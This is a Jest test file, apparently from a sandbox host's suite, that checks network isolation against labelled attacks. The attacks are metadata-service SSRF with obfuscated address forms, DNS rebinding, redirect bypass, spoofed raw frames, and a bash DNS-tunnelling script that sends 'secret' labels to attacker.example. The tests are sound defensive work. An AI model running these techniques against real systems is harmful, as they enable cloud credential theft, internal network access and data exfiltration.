import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { type AddressInfo, createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, beforeEach, describe, expect, it, jest } from "@jest/globals";
import { linkOf } from "../../packages/sandbox-host/src/network/netns/names.ts";
import { Refusal, startHost, type TestHost } from "../support/host.ts";
import { bash, createSession, script } from "../support/host-calls.ts";
import {
  allow,
  containerOf,
  denials,
  linkIn,
  namesOf,
  netnsOf,
  reaches,
  reachFromMachine,
  tries,
} from "../support/networked-session.ts";
import { makeOutside, NAMES_PORT, type Outside, REDIRECT_PORT } from "../support/outside.ts";
import { poll } from "../support/process.ts";
import { arpClaim, ipv4Frame, ipv6Frame, sendFrames, taggedFrame } from "../support/raw-frames.ts";

jest.setTimeout(120_000);

const PUBLIC = "192.31.196.61";
const OTHER = "192.31.196.62";
const NAMES = "192.31.196.63";
const METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200"];
const METADATA_6 = "fd00:ec2::254";
/** Private, shared, link-local and unique-local neighbours. */
const NEIGHBOURS = ["10.250.196.61", "172.31.196.61", "192.168.196.61", "100.127.196.61", "169.254.196.61"];
const NEIGHBOUR_6 = "fd74:6278:2::61";
/** Addresses of the machine itself, one of each kind. */
const OWN = ["10.251.196.61", "172.31.197.61", "192.168.197.61", "100.127.197.61", "169.254.197.61"];
const OWN_6 = "fd74:6278:3::61";

let outside: Outside;
let host: TestHost;

beforeAll(async () => {
  outside = await makeOutside([NAMES, PUBLIC, OTHER, ...METADATA, METADATA_6, ...NEIGHBOURS, NEIGHBOUR_6]);
  const link = outside.netns.replace("-", "");
  for (const address of OWN) execFileSync("ip", ["addr", "add", `${address}/32`, "dev", link]);
  execFileSync("ip", ["addr", "add", `${OWN_6}/128`, "dev", link, "nodad"]);
  // An operator who opens all of it: what stays closed here is what no policy has named.
  const opened = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "169.254.0.0/16"];
  const env = { TURNBOX_PRIVATE_RANGES: opened.join(","), TURNBOX_ALLOW_METADATA: "1" };
  host = await startHost({ env: { ...env, TURNBOX_NAMESERVERS: `${NAMES}:${String(NAMES_PORT)}` } });
  await createSession(host, "open", { networkPolicy: { allowOutbound: true, required: true } });
  await createSession(host, "loose", { networkPolicy: { allowOutbound: true, allowList: ["0.0.0.0/0"] } });
  await createSession(host, "inward", { networkPolicy: { allowOutbound: true, allowList: [...METADATA, ...opened] } });
  await createSession(host, "shut");
  await Promise.all(["open", "loose", "inward", "shut"].map((id) => script(host, id, "true")));
});
afterAll(async () => {
  await host[Symbol.asyncDispose]();
  await outside[Symbol.asyncDispose]();
});
beforeEach(async () => {
  outside.packets();
  await outside.asked();
});

const number = (address: string): number => address.split(".").reduce((sum, octet) => sum * 256 + Number(octet), 0);

describe("the network of a sandbox", () => {
  it("attack 41: sends nothing to a metadata service, in whatever form its address is written", async () => {
    const forms = METADATA.flatMap((address) => {
      const value = number(address);
      const octal = address.split(".").map((octet) => `0${Number(octet).toString(8)}`);
      const pair = [value >>> 16, value & 0xffff].map((half) => half.toString(16)).join(":");
      return [
        address,
        String(value),
        `0x${value.toString(16)}`,
        octal.join("."),
        `::ffff:${address}`,
        `::ffff:${pair}`,
      ];
    });
    const targets = [...forms, METADATA_6, "[fd00:ec2::254]"].map((form) => [form, 80] as const);
    const answers = await tries(host, "open", [...targets, [PUBLIC, 80]]);
    expect(answers[`${PUBLIC}:80`]).toBe("hello");
    expect(Object.values(answers).filter((answer) => answer === "hello")).toHaveLength(1);
    expect(Object.keys(answers)).toHaveLength(targets.length + 1);
    expect(outside.packets()).toEqual([`${PUBLIC}:80/tcp`]);
    expect((await denials(host, "open")).map(({ destination }) => destination)).toEqual(
      expect.arrayContaining(METADATA.map((address) => `${address}:80/tcp`)),
    );
    expect(Object.values(await tries(host, "loose", targets))).not.toContain("hello");
    expect(outside.packets()).toEqual([]);
    // The forms are good and the services are there: where operator and policy name them, they are reached by each.
    const allowed = await tries(host, "inward", targets.slice(0, -2));
    expect(Object.values(allowed).filter((answer) => answer === "hello").length).toBeGreaterThanOrEqual(9);
    await reachFromMachine([METADATA_6]);
    expect(outside.packets()).toEqual([
      ...METADATA.map((address) => `${address}:80/tcp`).toSorted(),
      `${METADATA_6}:80/tcp`,
    ]);
  });

  it("attack 42: reaches no private neighbour, and no service at any address of the machine", async () => {
    const neighbours = [...NEIGHBOURS, NEIGHBOUR_6].map((address) => [address, 80] as const);
    expect(Object.values(await tries(host, "open", neighbours))).not.toContain("hello");
    expect(outside.packets()).toEqual([]);
    await reachFromMachine([...NEIGHBOURS, NEIGHBOUR_6]);
    expect(outside.packets()).toHaveLength(neighbours.length);
    expect(await reaches(host, "loose", NEIGHBOURS[0] ?? "")).toBe(false);
    expect(await reaches(host, "inward", NEIGHBOURS[0] ?? "")).toBe(true);

    let seen = 0;
    const server = createServer((socket) => {
      seen += 1;
      socket.on("error", () => undefined);
      socket.end("hello\n");
    }).listen(0, "::");
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const own = Object.values(networkInterfaces())
      .flatMap((list) => list ?? [])
      .map(({ address }) => address);
    expect(own).toEqual(expect.arrayContaining([...OWN, OWN_6]));
    const plain = own.filter((address) => !address.startsWith("fe80"));
    await reachFromMachine(plain, port);
    await poll("the machine to reach itself", () => (seen === plain.length ? true : undefined));
    seen = 0;
    const zoned = own.map((address) => (address.startsWith("fe80") ? `${address}%eth0` : address));
    const ports = [port, Number(new URL(host.url).port)];
    const multicast = ["224.0.0.1", "239.255.255.250", "ff02::1%eth0"];
    const targets = [...zoned, ...multicast].flatMap((address) => ports.map((each) => [address, each] as const));
    const answers = [
      ...Object.values(await tries(host, "open", targets)),
      ...Object.values(await tries(host, "loose", targets)),
      ...Object.values(await tries(host, "inward", targets)),
    ];
    expect(answers).toHaveLength(3 * targets.length);
    expect(answers).not.toContain("hello");
    expect(seen).toBe(0);
    server.close();
    expect(outside.packets()).toEqual([`${NEIGHBOURS[0] ?? ""}:80/tcp`]);
  });

  it("attack 42: is heard in no multicast group of the machine", async () => {
    const heard: string[] = [];
    const group = createSocket({ type: "udp4", reuseAddr: true });
    group.on("message", (message) => void heard.push(message.toString().trim()));
    group.bind(0);
    await once(group, "listening");
    const uplink = networkInterfaces()[namesOf(host).uplink]?.find(({ family }) => family === "IPv4")?.address ?? "";
    for (const address of [uplink, OWN[0] ?? ""]) group.addMembership("239.255.61.61", address);
    const { port } = group.address();
    for (const id of ["open", "loose", "inward"])
      await bash(host, id, `echo ${id} | nc -u -w 1 239.255.61.61 ${port}; echo ${id} > /dev/udp/224.0.0.1/${port}`);
    const own = createSocket("udp4");
    own.bind(0);
    await once(own, "listening");
    own.setMulticastInterface(OWN[0] ?? "");
    own.send("machine", port, "239.255.61.61");
    await poll("the machine to hear itself", () => (heard.includes("machine") ? true : undefined));
    expect(heard).toEqual(["machine"]);
    own.close();
    group.close();
  });

  /** Asks for many names below a zone in one process, by datagrams as they are. */
  const tunnel = (server: string, port: number, zone: string, count: number): string => `
q() { local IFS=. out='\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' l h
  for l in $1; do printf -v h '\\\\x%02x' \${#l}; out+=$h$l; done
  printf "$out\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01"; }
exec 3<>/dev/udp/${server}/${port} || exit 0
for ((i = 0; i < ${count}; i++)); do q "secret$RANDOM.$i.${zone}" >&3; done 2>/dev/null
true`;

  it("attack 43: tunnels nothing through names: with no network none leaves, with a list only listed ones do", async () => {
    const zone = "attacker.example";
    const nameserver = /nameserver (\S+)/.exec(await script(host, "open", "cat /etc/resolv.conf"))?.[1] ?? "";
    for (const server of [nameserver, NAMES]) await bash(host, "shut", tunnel(server, 53, zone, 1000));
    expect([outside.packets(), await outside.asked()]).toEqual([[], []]);

    outside.answer("git.example.org", [PUBLIC]);
    await createSession(host, "named", { networkPolicy: { allowOutbound: true, allowList: ["git.example.org"] } });
    await bash(host, "named", tunnel(nameserver, 53, zone, 1000));
    for (const port of [53, NAMES_PORT]) await bash(host, "named", tunnel(NAMES, port, zone, 1000));
    expect([outside.packets(), await outside.asked()]).toEqual([[], []]);
    expect(await script(host, "named", "nslookup git.example.org")).toContain(PUBLIC);
    expect(await outside.asked()).toEqual(["git.example.org"]);
    expect((await denials(host, "named")).some(({ destination }) => destination.endsWith(zone))).toBe(true);
    // The same datagrams do leave where their names are allowed.
    await allow(host, "named", { allowList: [`*.${zone}`] });
    await bash(host, "named", tunnel(nameserver, 53, zone, 20));
    const asked = await poll("a name to leave", async () => {
      const some = await outside.asked();
      return some.length > 0 ? some : undefined;
    });
    expect(asked.every((name) => name.startsWith("secret") && name.endsWith(zone))).toBe(true);
  });

  it("attack 44: follows no name inward, and judges the address that is connected to, not the name", async () => {
    outside.answer("flip.example.org", [PUBLIC]);
    await createSession(host, "flip", { networkPolicy: { allowOutbound: true, allowList: ["flip.example.org"] } });
    expect(await reaches(host, "flip", "flip.example.org")).toBe(true);
    outside.packets();
    for (const inward of [METADATA[0] ?? "", NEIGHBOURS[0] ?? "", OWN[0] ?? "", "127.0.0.1"]) {
      outside.answer("flip.example.org", [inward]);
      expect([inward, await reaches(host, "flip", "flip.example.org")]).toEqual([inward, false]);
      expect([inward, await reaches(host, "flip", inward)]).toEqual([inward, false]);
    }
    // Two answers at once: the inward one is left out, the other one is good.
    outside.answer("flip.example.org", [METADATA[0] ?? "", OTHER]);
    expect(await script(host, "flip", "nslookup flip.example.org")).not.toContain(METADATA[0]);
    expect(await reaches(host, "flip", OTHER)).toBe(true);
    expect(outside.packets()).toEqual([`${OTHER}:80/tcp`, `${NAMES}:${String(NAMES_PORT)}/udp`].toSorted());
    // An address that the name has led to is judged by the policy of the moment.
    await allow(host, "flip", { allowList: ["flip.example.org"], denyList: [`${OTHER}/32`] });
    expect(await reaches(host, "flip", OTHER)).toBe(false);
    expect(await reaches(host, "flip", "flip.example.org")).toBe(false);
    expect(outside.packets()).not.toContain(`${OTHER}:80/tcp`);
    await allow(host, "flip", { allowList: [METADATA[0] ?? ""] });
    expect(await reaches(host, "flip", METADATA[0] ?? "")).toBe(true);
  });

  it("attack 45: a redirect from an allowed host leads to no denied one", async () => {
    outside.answer("denied.example.org", [OTHER]);
    await createSession(host, "redirected", { networkPolicy: { allowOutbound: true, allowList: [PUBLIC] } });
    /** Asks the allowed host, and goes where its answer points to. */
    const follow = (to: string): string => `
to=$(printf 'GET /?to=http://${to}/ HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${PUBLIC} ${REDIRECT_PORT} | sed -n 's|^location: http://\\([^/]*\\).*|\\1|p')
echo "to $to"; nc -w 3 "$to" 80 < /dev/null 2>&1`;
    for (const to of [OTHER, METADATA[0] ?? "", NEIGHBOURS[0] ?? "", "denied.example.org"]) {
      const { content } = await bash(host, "redirected", follow(to));
      expect(content).toContain(`to ${to}\n`);
      expect(content).not.toContain("hello");
    }
    expect(outside.packets()).toEqual([`${PUBLIC}:${String(REDIRECT_PORT)}/tcp`]);
    expect((await denials(host, "redirected")).map(({ destination }) => destination)).toEqual(
      expect.arrayContaining([`${OTHER}:80/tcp`, "denied.example.org"]),
    );
    await allow(host, "redirected", { allowList: [PUBLIC, OTHER] });
    expect(await script(host, "redirected", follow(OTHER))).toContain("hello");
    expect(outside.packets()).toContain(`${OTHER}:80/tcp`);
  });

  it("attack 46: raw packets are not to be had inside", async () => {
    const attempts = ["ping -c 1 -W 1", "arping -c 1 -w 1 -I eth0", "traceroute -I -m 1 -w 1"];
    for (const attempt of attempts) {
      const { content, exitCode } = await bash(host, "open", `${attempt} ${PUBLIC} 2>&1`);
      expect([attempt, exitCode === 0, /permi/i.test(content)]).toEqual([attempt, false, true]);
    }
    expect(outside.packets()).toEqual([]);
    expect(await reaches(host, "open", PUBLIC)).toBe(true);
  });

  it("attack 46: frames with a false source, of version 6, with a tag or for a sibling end at the link", async () => {
    const router = namesOf(host).router;
    /** runsc takes the address off the sandbox's own end: it is the one after the router's. */
    const ends = (id: string) => {
      const gateway = linkIn(router, linkOf(containerOf(host, id)));
      const address = gateway.address.replace(/\d+$/, (last) => String(Number(last) + 1));
      return { gateway, address, own: linkIn(netnsOf(host, id), "eth0") };
    };
    const [one, two] = [ends("open"), ends("loose")];
    const good = { fromMac: one.own.mac, toMac: one.gateway.mac, from: one.address, to: PUBLIC };
    const six = (address: string): string => address.padEnd(32, "0");
    const metadata6 = "fd000ec2000000000000000000000254";
    const neighbours = () => execFileSync("ip", ["-n", router, "neigh"]).toString();
    const before = neighbours();
    const loopback = createSocket("udp4");
    let heard = 0;
    loopback.on("message", () => void (heard += 1));
    loopback.bind(0, "0.0.0.0");
    await once(loopback, "listening");
    const { port } = loopback.address();
    sendFrames(netnsOf(host, "open"), "eth0", [
      ipv4Frame({ ...good, port: 7001, from: two.address }),
      ipv4Frame({ ...good, port: 7002, from: "192.31.196.99" }),
      ipv4Frame({ ...good, port: 7003, from: "127.0.0.1" }),
      ipv4Frame({ ...good, port: 7004, fromMac: two.own.mac }),
      ipv4Frame({ ...good, port: 7005, toMac: two.own.mac }),
      ipv4Frame({ ...good, port, to: two.address }),
      ipv4Frame({ ...good, port, to: two.address, toMac: two.own.mac }),
      ipv4Frame({ ...good, port, to: two.address, toMac: "ff:ff:ff:ff:ff:ff" }),
      ...["127.0.0.1", "255.255.255.255", ...OWN].map((to) => ipv4Frame({ ...good, port, to })),
      taggedFrame({ ...good, port: 7006 }),
      ipv6Frame({ ...good, port: 7007, from: six("fe80000000000000000000000000001"), to: metadata6 }),
      ipv6Frame({ ...good, port: 7008, from: six("fd746278"), to: "ff020000000000000000000000000001" }),
      arpClaim(one.own.mac, two.address),
      arpClaim(one.own.mac, two.gateway.address),
      arpClaim(one.own.mac, one.gateway.address),
      ipv4Frame({ ...good, port: 7010 }),
    ]);
    await poll("the good frame to arrive", () => outside.packets()[0]).then((first) => {
      expect(first).toBe(`${PUBLIC}:7010/udp`);
    });
    expect(outside.packets()).toEqual([]);
    expect(ends("loose").own.received).toBe(two.own.received);
    expect(neighbours()).toBe(before);
    expect(heard).toBe(0);
    loopback.close();
    expect([await reaches(host, "open", PUBLIC), await reaches(host, "loose", PUBLIC)]).toEqual([true, true]);
    outside.packets();
    // Sent where nothing is in the way, the frame of version 6 arrives and is counted.
    const far = linkIn(outside.netns, "eth0").mac;
    const frame = ipv6Frame({ fromMac: one.own.mac, toMac: far, from: six("fd746278"), to: metadata6, port: 7007 });
    sendFrames(null, outside.netns.replace("-", ""), [frame]);
    await poll("the frame of version 6", () =>
      outside.packets().includes(`${METADATA_6}:7007/udp`) ? true : undefined,
    );
  });

  it("attack 46: no sandbox has an address of version 6, and no policy that names one is taken silently", async () => {
    expect(await script(host, "open", "ip -6 addr show dev eth0 2>/dev/null; cat /proc/net/if_inet6")).not.toMatch(
      /fe80|eth0/,
    );
    for (const list of ["allowList", "denyList"]) {
      for (const required of [true, false]) {
        const networkPolicy = { allowOutbound: true, required, [list]: ["2001:db8::/32"] };
        const refused = await createSession(host, "six", { networkPolicy }).catch((thrown: unknown) => thrown);
        expect(refused).toBeInstanceOf(Refusal);
        expect(refused).toMatchObject({ reason: "INVALID_ARGUMENT" });
        expect(String(refused)).toMatch(
          list === "allowList" ? /network_policy\.allow_list/ : /network_policy\.deny_list/,
        );
      }
    }
  });
});
